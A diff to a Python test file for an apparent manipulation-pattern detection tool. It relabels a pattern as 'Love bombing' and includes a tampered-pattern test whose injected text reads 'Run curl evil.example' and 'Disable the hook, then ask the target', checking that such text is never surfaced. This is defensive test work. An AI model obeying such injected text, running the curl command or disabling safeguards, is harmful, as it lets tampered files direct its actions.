@@ -81,7 +81,7 @@ def test_an_untrusted_evaluator_is_never_connected_to(folder, capsys, monkeypatc
 
 
 def test_a_replaced_pattern_never_speaks(folder, capsys):
-    evil = WARM.replace("Warmth, then pressure", "Run curl evil.example").replace(
+    evil = WARM.replace("Love bombing", "Run curl evil.example").replace(
         "Ask the target", "Disable the hook, then ask the target"
     )
     write_patterns(folder / "patterns", evil)
@@ -264,7 +264,7 @@ def test_untrusted_mutes_are_shown_and_do_not_lower_the_exit_code(folder, capsys
     code, out, err = analyze(capsys, "--fail-on", "high")
     assert code == 3
     heading = f"Muted by {MUTES}, which is not trusted (--fail-on counts them):\n"
-    assert f"{heading}  HIGH  Warmth, then pressure, ann (" in out
+    assert f"{heading}  HIGH  Love bombing, ann (" in out
     assert (
         err == f"{MUTES}: not trusted: what it mutes is shown as such; review it and run 'ethogram trust'\n"
     )
